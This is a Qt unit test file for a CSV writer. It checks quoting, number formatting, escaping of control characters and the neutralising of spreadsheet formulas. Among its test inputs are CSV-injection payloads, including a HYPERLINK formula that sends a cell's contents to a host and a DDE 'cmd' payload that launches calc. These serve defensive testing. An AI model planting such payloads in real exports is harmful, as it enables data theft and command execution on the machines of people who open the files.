// SPDX-License-Identifier: GPL-3.0-or-later
#include "csvparser.h"
#include "report/csvwriter.h"
#include "reportfixtures.h"

#include <QTest>

#include <cmath>

class TestCsvWriter : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void quotesWhatNeedsQuotes_data()
    {
        QTest::addColumn<QString>("text");
        QTest::addColumn<QString>("field");
        QTest::newRow("plain") << QStringLiteral("abc") << QStringLiteral("abc");
        QTest::newRow("empty") << QString() << QString();
        QTest::newRow("comma") << QStringLiteral("a,b") << QStringLiteral("\"a,b\"");
        QTest::newRow("quote") << QStringLiteral("a\"b") << QStringLiteral("\"a\"\"b\"");
        QTest::newRow("line feed") << QStringLiteral("a\nb") << QStringLiteral("\"a\nb\"");
        QTest::newRow("carriage return") << QStringLiteral("a\rb") << QStringLiteral("\"a\rb\"");
        QTest::newRow("semicolon stays") << QStringLiteral("a;b") << QStringLiteral("a;b");
    }

    void quotesWhatNeedsQuotes()
    {
        QFETCH(QString, text);
        QTEST(core::csvField(text), "field");
    }

    void formulasBecomeTexts_data()
    {
        QTest::addColumn<QString>("text");
        QTest::addColumn<bool>("isFormula");
        const auto row
            = [](const QString& text, bool isFormula) { QTest::newRow(qPrintable(text)) << text << isFormula; };
        row(QStringLiteral("=HYPERLINK(\"http://a/?x=\"&A1)"), true);
        row(QStringLiteral("+cmd|' /C calc'!A0"), true);
        row(QStringLiteral("-1+1"), true);
        row(QStringLiteral("@SUM(A1)"), true);
        row(QStringLiteral("\t=1+1"), true);
        row(QStringLiteral("\r\n =1+1"), true);
        row(QStringLiteral("\u200b=1"), true);
        row(QStringLiteral("\uFF1D1+1"), true);
        row(QStringLiteral("-"), true);
        row(QStringLiteral("-> forward"), true);
        row(QStringLiteral("--"), true);
        row(QStringLiteral("-3.5"), false);
        row(QStringLiteral("+5"), false);
        row(QStringLiteral("-1,234.5"), false);
        row(QStringLiteral("-1.25e-13"), false);
        row(QStringLiteral("-10.950 s"), false);
        row(QStringLiteral("-5 \u00b5s"), false);
        row(QStringLiteral("-5%"), false);
        row(QStringLiteral("-5 A1"), true);
        row(QStringLiteral("void k<(int)-1>(float*)"), false);
        row(QStringLiteral("<unnamed>::k"), false);
        row(QString(), false);
        row(QStringLiteral("  "), false);
    }

    void formulasBecomeTexts()
    {
        QFETCH(QString, text);
        QFETCH(bool, isFormula);
        QCOMPARE(core::withoutFormula(text), isFormula ? u'\'' + text : text);
    }

    void onlyTextsAreQuoted()
    {
        using reportfixtures::column;
        core::Table table = reportfixtures::countingTable(1);
        table.columns
            = { column(QStringLiteral("name"), QStringLiteral("Name"), core::Unit::None, { QStringLiteral("=1") }),
                column(QStringLiteral("a"), QStringLiteral("A"), core::Unit::Count, { std::int64_t { -3 } }),
                column(QStringLiteral("b"), QStringLiteral("B"), core::Unit::Percent, { -1.5 }, 1) };
        QCOMPARE(core::tableToCsv(table), QByteArray("name,a,b\r\n'=1,-3,-1.50000\r\n"));
        QCOMPARE(core::tableToCsv(table, { core::CsvFormulas::Keep }), QByteArray("name,a,b\r\n=1,-3,-1.50000\r\n"));
    }

    void numbersKeepTheirFigure_data()
    {
        QTest::addColumn<double>("value");
        QTest::addColumn<int>("decimals");
        QTest::addColumn<QString>("text");
        QTest::newRow("three more decimals") << 42.622950819 << 1 << QStringLiteral("42.6230");
        QTest::newRow("six significant digits") << 0.0000123456789 << 1 << QStringLiteral("0.0000123457");
        QTest::newRow("zero") << 0.0 << 2 << QStringLiteral("0.00000");
        QTest::newRow("minus zero") << -0.0 << 0 << QStringLiteral("0.000");
        QTest::newRow("negative") << -1.5 << 1 << QStringLiteral("-1.50000");
        QTest::newRow("thousands without separator") << 1234567.25 << 0 << QStringLiteral("1234567.250");
        QTest::newRow("tiny") << 1.25e-13 << 1 << QStringLiteral("1.25e-13");
        QTest::newRow("huge") << 1e300 << 1 << QStringLiteral("1e+300");
        QTest::newRow("not a number") << std::nan("") << 1 << QString();
        QTest::newRow("infinite") << -std::numeric_limits<double>::infinity() << 1 << QString();
    }

    void numbersKeepTheirFigure()
    {
        QFETCH(double, value);
        QFETCH(int, decimals);
        QTEST(core::csvNumber(value, decimals), "text");
    }

    void tableCanBeReadBack()
    {
        const auto table = reportfixtures::oddTable();
        const auto records
            = parseCsv(core::tableToCsv(table, { core::CsvFormulas::Keep, core::ControlCharacters::Keep }));
        QVERIFY(records);
        QCOMPARE(records->size(), table.rowCount + 1);
        QCOMPARE(records->front(),
                 QStringList({ QStringLiteral("kernel_name"), QStringLiteral("total_ns"), QStringLiteral("pct") }));
        for (std::size_t row = 0; row < table.rowCount; ++row) {
            const auto& record = (*records)[row + 1];
            QCOMPARE(record.size(), 3);
            // halves of surrogate pairs cannot be written as UTF-8
            QCOMPARE(record[0], QString::fromUtf8(std::get<QString>(table.cell(row, 0)).toUtf8()));
            const auto whole = table.cell(row, 1);
            if (std::holds_alternative<std::monostate>(whole))
                QCOMPARE(record[1], QString());
            else
                QCOMPARE(record[1].toLongLong(), std::get<std::int64_t>(whole));
            const auto real = table.cell(row, 2);
            const auto* value = std::get_if<double>(&real);
            if (!value || !std::isfinite(*value))
                QCOMPARE(record[2], QString());
            else
                QVERIFY(std::abs(record[2].toDouble() - *value) <= std::abs(*value) * 1e-5);
        }
    }

    void tableWithoutRowsHasItsHeader()
    {
        QCOMPARE(core::tableToCsv(reportfixtures::countingTable(0)), QByteArray("number\r\n"));
    }

    void nulDoesNotEndAText()
    {
        core::Table table = reportfixtures::countingTable(1);
        table.columns[0].value
            = [](std::size_t) { return core::Cell(QStringLiteral("a") + QChar(u'\0') + QStringLiteral("b")); };
        QCOMPARE(core::tableToCsv(table), QByteArray("number\r\na\\u0000b\r\n"));
        QCOMPARE(core::tableToCsv(table, { .controls = core::ControlCharacters::Keep }),
                 QByteArray("number\r\na\xEF\xBF\xBD"
                            "b\r\n"));
    }

    void controlCharactersAreVisible()
    {
        core::Table table = reportfixtures::countingTable(1);
        table.columns[0].value = [](std::size_t) { return core::Cell(QStringLiteral("\x1b[31m\u009b\u202e,\\u0041")); };
        QCOMPARE(core::tableToCsv(table), QByteArray("number\r\n\"\\u001b[31m\\u009b\\u202e,\\u005cu0041\"\r\n"));
        QCOMPARE(core::csvText(table, 0, 0), QStringLiteral("\\u001b[31m\\u009b\\u202e,\\u005cu0041"));
        QCOMPARE(core::tableToCsv(table, { .controls = core::ControlCharacters::Keep }),
                 QStringLiteral("number\r\n\"\x1b[31m\u009b\u202e,\\u0041\"\r\n").toUtf8());
    }

    void localeDoesNotMatter()
    {
        QLocale::setDefault(QLocale(QLocale::German));
        const auto text = core::csvNumber(1234.5, 1);
        QLocale::setDefault(QLocale::c());
        QCOMPARE(text, QStringLiteral("1234.5000"));
    }
};

QTEST_GUILESS_MAIN(TestCsvWriter)
#include "tst_csvwriter.moc"
